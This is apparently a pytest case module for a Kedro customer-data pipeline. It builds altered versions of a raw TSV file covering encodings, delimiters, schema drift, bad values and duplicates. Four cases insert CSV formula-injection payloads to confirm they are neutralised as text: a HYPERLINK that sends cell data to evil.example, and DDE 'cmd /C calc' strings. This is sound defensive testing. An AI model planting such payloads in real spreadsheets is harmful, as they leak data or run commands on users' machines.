"""The cases: each is the committed default raw file with one small, named change.

A case expects either a clear refusal (``Refused``: an ``InputDataError`` whose message has the
keywords, and nothing written into layers 03..08) or a clean run (``Clean``: rows in = kept +
rejected, plus the case's own check). ``run`` executes a case in this process on a project copy.
"""

import functools
import gzip
import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
from kedro.framework.session import KedroSession
from kedro.framework.startup import bootstrap_project

from tests.project_copy import GENERATED_LAYERS, REPO_ROOT, copy_project

RAW = Path("data/01_raw/customers_synthetic.csv")
DEFAULT_BYTES = (REPO_ROOT / RAW).read_bytes()
_LINES = DEFAULT_BYTES.decode("utf-8").splitlines()
HEADER: list[str] = _LINES[0].split("\t")
ROWS: list[list[str]] = [line.split("\t") for line in _LINES[1:]]
# Layers a refused run must leave untouched (02_intermediate may hold what the contract documents).
GUARDED_LAYERS = [f"data/{layer}" for layer in GENERATED_LAYERS if layer != "02_intermediate"]
DATA_PROCESSING = ["data_processing"]
EVERYTHING = None  # the default run


def tsv(header: list[str], rows: list[list[str]], sep: str = "\t", end: str = "\n") -> bytes:
    """A table as text: one line per row, ``sep`` between fields, UTF-8."""
    return "".join(sep.join(row) + end for row in [header, *rows]).encode("utf-8")


def rows() -> list[list[str]]:
    """A fresh copy of the default file's data rows (text fields)."""
    return [list(row) for row in ROWS]


def col(name: str) -> int:
    return HEADER.index(name)


def with_cells(*changes: tuple[int, str, str]) -> bytes:
    """The default file with ``(row index, column, new text)`` cells changed."""
    table = rows()
    for index, column, value in changes:
        table[index][col(column)] = value
    return tsv(HEADER, table)


def with_column(column: str, value: Callable[[str], str]) -> bytes:
    """The default file with every value of ``column`` replaced by ``value(old)``."""
    table = rows()
    for row in table:
        row[col(column)] = value(row[col(column)])
    return tsv(HEADER, table)


def with_line(index: int, line: Callable[[str], str]) -> bytes:
    """The default file with data line ``index`` (0-based) rewritten as raw text."""
    lines = _LINES.copy()
    lines[index + 1] = line(lines[index + 1])
    return ("\n".join(lines) + "\n").encode("utf-8")


def with_cell_in(encoding: str, index: int, column: str, value: str) -> bytes:
    """The default file (UTF-8) with one cell changed to ``value`` written in ``encoding``."""
    return with_cells((index, column, value)).replace(value.encode(), value.encode(encoding))


def without_column(column: str) -> bytes:
    keep = [i for i, name in enumerate(HEADER) if name != column]
    return tsv([HEADER[i] for i in keep], [[row[i] for i in keep] for row in ROWS])


def renamed(old: str, new: str) -> bytes:
    return tsv([new if name == old else name for name in HEADER], rows())


def zipped(member: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if member.endswith(".xml"):  # the parts every .xlsx workbook holds
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
            archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        else:
            archive.writestr(member, DEFAULT_BYTES)
    return buffer.getvalue()


def parquet() -> bytes:
    buffer = io.BytesIO()
    pd.DataFrame(ROWS, columns=HEADER).to_parquet(buffer)
    return buffer.getvalue()


def shifted_dates(years: int) -> bytes:
    def shift(text: str) -> str:
        day, month, year = text.split("-")
        return f"{day}-{month}-{int(year) + years}"

    return with_column("Dt_Customer", shift)


def reformatted_dates(fmt: str) -> bytes:
    return with_column(
        "Dt_Customer", lambda text: pd.to_datetime(text, format="%d-%m-%Y").strftime(fmt)
    )


def first_rows(count: int) -> bytes:
    return tsv(HEADER, rows()[:count])


def quality(project: Path) -> dict:
    return json.loads((project / "data/current/02_intermediate/data_quality.json").read_text())


def rejected(project: Path) -> pd.DataFrame:
    """rejected_customers.csv as text, as a spreadsheet would show it."""
    return pd.read_csv(
        project / "data/current/02_intermediate/rejected_customers.csv",
        dtype=str,
        keep_default_na=False,
    )


@dataclass(frozen=True)
class Ran:
    """A clean run of a case (``project``) beside the run of the unchanged file (``baseline``)."""

    project: Path
    baseline: Path

    def quality(self) -> dict:
        return quality(self.project)

    def baseline_quality(self) -> dict:
        return quality(self.baseline)


Check = Callable[[Ran], None]


@dataclass(frozen=True)
class Refused:
    """The run stops with an InputDataError naming the file (unless ``names_file`` is False) and
    holding every keyword (case-insensitive); layers 03..08 stay as they were."""

    keywords: tuple[str, ...]
    names_file: bool = True


@dataclass(frozen=True)
class Clean:
    """The run succeeds; rows in = kept + rejected; ``check`` holds."""

    check: Check | None = None


@dataclass(frozen=True)
class Case:
    name: str
    content: Callable[[], bytes]
    expect: Refused | Clean
    pipelines: list[str] | None = field(default_factory=lambda: DATA_PROCESSING)
    xfail: str | None = None  # "issue 16: what is missing"
    prepare: Callable[[Path], None] | None = None  # a change to the project besides the file


def files_under(project: Path, folders: list[str]) -> dict[str, int]:
    """Every file (and folder) under ``folders`` with its modification time."""
    found = {}
    for folder in folders:
        root = project / folder
        if root.is_file():
            found[folder] = root.stat().st_mtime_ns
        for path in root.rglob("*") if root.is_dir() else []:
            found[str(path.relative_to(project))] = path.stat().st_mtime_ns
    return found


def run(case: Case, tmp_path: Path) -> tuple[Path, BaseException | None, dict[str, int]]:
    """Copy the project, write the case's raw file, run its pipelines in this process.

    Returns the project, the run's exception (None when it succeeded) and the files of layers
    03..08 before the run.
    """
    project = copy_project(tmp_path / "project")
    (project / RAW).write_bytes(case.content())
    if case.prepare is not None:
        case.prepare(project)
    before = files_under(project, GUARDED_LAYERS)
    bootstrap_project(project)
    cwd = Path.cwd()
    os.chdir(project)  # as `kedro run` does: messages show paths relative to the project
    try:
        with KedroSession.create(project_path=project, env="base") as session:
            session.run(pipeline_names=case.pipelines)
    except Exception as error:  # noqa: BLE001 - the test judges it
        return project, error, before
    finally:
        os.chdir(cwd)
    return project, None, before


def _rejected_with(row_number: int, *words: str) -> Check:
    """Check: data line ``row_number`` (1-based), kept from the unchanged file, is rejected and
    its reason holds every word."""

    def check(ran: Ran) -> None:
        assert str(row_number) not in rejected(ran.baseline)["_row_number"].tolist()
        table = rejected(ran.project)
        reasons = table.loc[table["_row_number"] == str(row_number), "reject_reason"].tolist()
        assert len(reasons) == 1, f"line {row_number} not rejected: {table.tail(3)}"
        for word in words:
            assert word.lower() in reasons[0].lower(), reasons[0]

    return check


CASES: list[Case] = []


def _case(name, content, expect, **options) -> None:
    CASES.append(Case(name, content, expect, **options))


def _same_as_default(ran: Ran) -> None:
    found, expected = ran.quality(), ran.baseline_quality()
    assert (found["rows_in"], found["rows_kept"]) == (expected["rows_in"], expected["rows_kept"])


def _kept_one_less(ran: Ran) -> None:
    assert ran.quality()["rows_kept"] == ran.baseline_quality()["rows_kept"] - 1


def _id_kept_as_written(text: str) -> Check:
    """Check: an ID that is text (issue 31) is a customer like any other, kept exactly."""

    def check(ran: Ran) -> None:
        _same_as_default(ran)
        primary = pd.read_parquet(ran.project / "data/current/03_primary/customers.parquet")
        assert text in primary["ID"].tolist()

    return check


def _all(*checks: Check) -> Check:
    def check(ran: Ran) -> None:
        for each in checks:
            each(ran)

    return check


def _unreadable_output(project: Path) -> None:
    """08_reporting cannot be written: a file stands where the folder should be (chmod does not
    stop root, who runs CI containers)."""
    folder = project / "data/08_reporting"
    folder.rmdir()
    folder.write_text("not a folder")


# ---------------------------------------------------------------- encodings
# UTF-16 is told by its byte-order mark (Excel's "Unicode Text"); other encodings are asked for.
_case("utf16", lambda: DEFAULT_BYTES.decode().encode("utf-16"), Clean(_same_as_default))
_case(
    "latin1_byte_in_category",
    lambda: with_cell_in("latin-1", 5, "Marital_Status", "Mari\xe9"),
    Refused(("UTF-8", "line 7", "encoding: cp1252")),
)
_case(
    "latin1_byte_late_in_file",  # beyond the first 64 KiB the reader checks before pandas reads
    lambda: with_cell_in("latin-1", 2000, "Marital_Status", "Mari\xe9"),
    Refused(("UTF-8", "encoding: cp1252")),
)
_case("utf8_bom", lambda: b"\xef\xbb\xbf" + DEFAULT_BYTES, Clean(_same_as_default))
_case(
    "nul_byte_in_income",
    lambda: with_cells((7, "Income", "33\x00791")),
    Clean(_rejected_with(8, "Income")),
)
_case(
    "windows1252_quote_in_category",
    lambda: with_cell_in("cp1252", 3, "Education", "PhD\u2019"),  # a curly apostrophe
    Refused(("UTF-8", "line 5", "encoding: cp1252")),
)
# ---------------------------------------------------------------- file kinds
_case("xlsx_named_csv", lambda: zipped("[Content_Types].xml"), Refused(("Excel", "CSV")))
_case("zip_named_csv", lambda: zipped("customers.csv"), Refused(("zip", "CSV")))
_case("gzip_named_csv", lambda: gzip.compress(DEFAULT_BYTES), Refused(("gzip", "CSV")))
_case("parquet_named_csv", parquet, Refused(("Parquet", "CSV")))
_case("empty", lambda: b"", Refused(("empty",)))
_case("blank_lines_only", lambda: b"\n\n  \n", Refused(("empty",)))
_case("header_only", lambda: tsv(HEADER, []), Refused(("header", "no data rows")))
# ---------------------------------------------------------------- separators and lines
# The delimiter is detected (the catalog sets none): other delimiters read as the default file.
_case("comma_separated", lambda: tsv(HEADER, rows(), sep=","), Clean(_same_as_default))
_case("semicolon_separated", lambda: tsv(HEADER, rows(), sep=";"), Clean(_same_as_default))
_case(
    "trailing_tab_every_data_line",
    lambda: tsv(HEADER, [[*row, ""] for row in ROWS]).replace(b"Response\t\n", b"Response\n", 1),
    Refused(("trailing delimiter", "index_col")),
)
_case(
    "trailing_tab_one_line",
    lambda: with_line(9, lambda line: line + "\t"),
    Refused(("line 11", "30", "fields")),
)
_case(
    "line_with_fewer_fields",
    lambda: with_line(9, lambda line: "\t".join(line.split("\t")[:4] + line.split("\t")[5:])),
    Clean(_rejected_with(10)),
)
_case(
    "line_with_more_fields",
    lambda: with_line(9, lambda line: line.replace("\t", "\t\t", 1)),
    Refused(("line 11", "30", "fields")),
)
_case("lf_line_endings", lambda: DEFAULT_BYTES.replace(b"\r\n", b"\n"), Clean(_same_as_default))
_case("cr_line_endings", lambda: DEFAULT_BYTES.replace(b"\r\n", b"\r"), Clean(_same_as_default))
_case(
    "blank_lines_between_rows",
    lambda: DEFAULT_BYTES.replace(b"\r\n", b"\r\n\r\n", 50),
    Clean(_same_as_default),
)
# ---------------------------------------------------------------- quoting
_case(
    "stray_quote_opening_a_field",
    lambda: with_cells((12, "Education", '"Graduation')),
    Refused(("quote", "quoting")),
)
_case(
    "quote_inside_a_field",
    lambda: with_cells((12, "Education", 'Gradu"ation')),
    Clean(_rejected_with(13, "Education")),
)
# ---------------------------------------------------------------- schema drift
_case(
    "missing_required_column",
    lambda: without_column("Income"),
    Refused(("Income", "schema.columns")),
)
_case(
    "renamed_column",
    lambda: renamed("Income", "Yearly_Income"),
    Refused(("Income", "Yearly_Income", "schema.columns")),
)
_case(
    "lower_case_header",
    lambda: tsv([n.lower() for n in HEADER], rows()),
    Refused(("Year_Birth", "schema.columns")),
)
_case(
    "padded_header_names", lambda: tsv([f" {n} " for n in HEADER], rows()), Clean(_same_as_default)
)


def _extra_column() -> bytes:
    return tsv([*HEADER, "Loyalty_Card"], [[*row, "gold"] for row in ROWS])


def _dropped(column: str) -> Check:
    def check(ran: Ran) -> None:
        _same_as_default(ran)
        dropped = {entry["column"]: entry["reason"] for entry in ran.quality()["dropped_columns"]}
        assert "not in the data contract" in dropped.get(column, ""), dropped

    return check


_case("extra_column", _extra_column, Clean(_dropped("Loyalty_Card")))


def _shuffled() -> bytes:
    order = sorted(range(len(HEADER)), key=lambda i: HEADER[i][::-1])
    return tsv([HEADER[i] for i in order], [[row[i] for i in order] for row in ROWS])


_case("shuffled_column_order", _shuffled, Clean(_same_as_default))
_case(
    "duplicate_column_names",
    lambda: renamed("Teenhome", "Kidhome"),
    Refused(("duplicate", "Kidhome")),
)
# ---------------------------------------------------------------- values
_case(
    "non_numeric_income",
    lambda: with_cells((20, "Income", "fifty thousand")),
    Clean(_rejected_with(21, "Income")),
)
_case(
    "income_thousands_separator",
    lambda: with_cells((20, "Income", "58,138")),
    Clean(_rejected_with(21, "Income")),
)
_case(
    "income_overflow_1e400",
    lambda: with_cells((20, "Income", "1e400")),
    Clean(_rejected_with(21, "Income", "too large")),
)
_case(
    "income_infinity",
    lambda: with_cells((20, "Income", "inf")),
    Clean(_rejected_with(21, "Income")),
)
_case(
    "negative_spend",
    lambda: with_cells((30, "MntWines", "-5")),
    Clean(_rejected_with(31, "MntWines")),
)
_case(
    "kidhome_1000",
    lambda: with_cells((40, "Kidhome", "1000")),
    Clean(_rejected_with(41, "Kidhome")),
)
_case(
    "year_birth_1800",
    lambda: with_cells((40, "Year_Birth", "1800")),
    Clean(_rejected_with(41, "age_range")),
)
_case(
    "one_enrolment_in_2099",
    lambda: with_cells((50, "Dt_Customer", "04-09-2099")),
    Clean(_all(_rejected_with(51, "Dt_Customer"), _kept_one_less)),
)


# Every enrolment lands after the run date: the enrolment_date rule rejects every row, and the
# run stops naming the rule (the report's shifted-dates warning covers milder shifts:
# tests/pipelines/feature_engineering/test_date_checks.py).
_case(
    "dates_shifted_30_years",
    lambda: shifted_dates(30),
    Refused(("no customer left", "enrolment_date", "after the run date")),
)
_case("iso_dates", lambda: reformatted_dates("%Y-%m-%d"), Clean(_same_as_default))
_case("slash_dates", lambda: reformatted_dates("%d/%m/%Y"), Clean(_same_as_default))
_case(
    "us_month_first_dates",
    lambda: reformatted_dates("%m-%d-%Y"),
    Refused(("Dt_Customer", "date formats")),
)
_case(
    "unknown_category",
    lambda: with_cells((60, "Education", "Doctorate")),
    Clean(_rejected_with(61, "Education")),
)
_case(
    "whitespace_padded_categories",
    lambda: with_column("Marital_Status", lambda text: f"  {text} "),
    Clean(_same_as_default),
)
_case("lower_case_categories", lambda: with_column("Education", str.lower), Clean(_same_as_default))


def _formula_kept_as_text(row_number: int, column: str, formula: str) -> Check:
    """Check: the rejected row's cell reads as text in a spreadsheet (OWASP: leading ')."""

    def check(ran: Ran) -> None:
        table = rejected(ran.project)
        cell = table.loc[table["_row_number"] == str(row_number), column].tolist()
        assert cell == ["'" + formula], cell

    return check


for _name, _column, _formula in [
    (
        "formula_hyperlink_in_education",
        "Education",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    ("formula_cmd_in_marital_status", "Marital_Status", "+cmd|' /C calc'!A0"),
    ("formula_sum_in_marital_status", "Marital_Status", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula_minus_in_education", "Education", "-2+3+cmd|' /C calc'!A0"),
]:
    _case(
        _name,
        functools.partial(with_cells, (70, _column, _formula)),
        Clean(_all(_rejected_with(71, _column), _formula_kept_as_text(71, _column, _formula))),
    )
_case(
    "deal_purchases_above_total_purchases",
    lambda: with_cells((80, "NumDealsPurchases", "40")),
    Clean(_rejected_with(81, "NumDealsPurchases")),
)
_case(
    "accepted_cmp_2",
    lambda: with_cells((90, "AcceptedCmp3", "2")),
    Clean(_rejected_with(91, "AcceptedCmp3")),
)
_case(
    "web_visits_500_a_month",
    lambda: with_cells((100, "NumWebVisitsMonth", "500")),
    Clean(_rejected_with(101, "NumWebVisitsMonth")),
)
# ---------------------------------------------------------------- rows
# Refused before any output is written: the k range needs more (distinct) customers.
_TOO_FEW = Refused(("customers", "k_range"))
_case(
    "one_customer",
    lambda: first_rows(1),
    _TOO_FEW,
    pipelines=EVERYTHING,
)
_case(
    "three_customers",
    lambda: first_rows(3),
    _TOO_FEW,
    pipelines=EVERYTHING,
)
_case(
    "200_identical_rows",
    lambda: tsv(HEADER, [ROWS[0]] * 200),
    _TOO_FEW,
    pipelines=EVERYTHING,
)


def _every_row_twice() -> bytes:
    return tsv(HEADER, [row for row in ROWS for _ in range(2)])


def _duplicates(project: Path) -> int:
    return rejected(project)["reject_reason"].str.startswith("exact_duplicate: ").sum()


def _second_copies_rejected_as_duplicates(ran: Ran) -> None:
    assert ran.quality()["rows_kept"] == ran.baseline_quality()["rows_kept"]
    assert _duplicates(ran.project) == _duplicates(ran.baseline) + len(ROWS)


def _every_id_reused() -> bytes:
    second = [
        [*row[: col("Recency")], str(int(row[col("Recency")]) + 1), *row[col("Recency") + 1 :]]
        for row in ROWS
    ]
    return tsv(HEADER, [*ROWS, *second])


_case("every_row_twice", _every_row_twice, Clean(_second_copies_rejected_as_duplicates))
_case(
    "every_id_reused_with_other_content",
    _every_id_reused,
    Refused(("repeated_ids", "no customer")),
)
_case("missing_id", lambda: with_cells((110, "ID", "")), Clean(_rejected_with(111, "ID")))
_case("text_id", lambda: with_cells((110, "ID", "A-17")), Clean(_id_kept_as_written("A-17")))
_case("fractional_id", lambda: with_cells((110, "ID", "17.5")), Clean(_id_kept_as_written("17.5")))
_case(
    "zero_padded_id",
    lambda: with_cells((110, "ID", "000417")),
    Clean(_id_kept_as_written("000417")),
)
_case(
    "all_incomes_missing",
    lambda: with_column("Income", lambda _: ""),
    Refused(("Income", "no customer")),
)
_case(
    "all_incomes_na_marker",
    lambda: with_column("Income", lambda _: "NA"),
    Refused(("Income", "no customer")),
)
_case("constant_recency", lambda: with_column("Recency", lambda _: "30"), Clean(_same_as_default))
# ---------------------------------------------------------------- output side
_case(
    "unwritable_output_folder",
    lambda: DEFAULT_BYTES,
    Refused(("08_reporting",), names_file=False),
    pipelines=EVERYTHING,
    prepare=_unreadable_output,
)
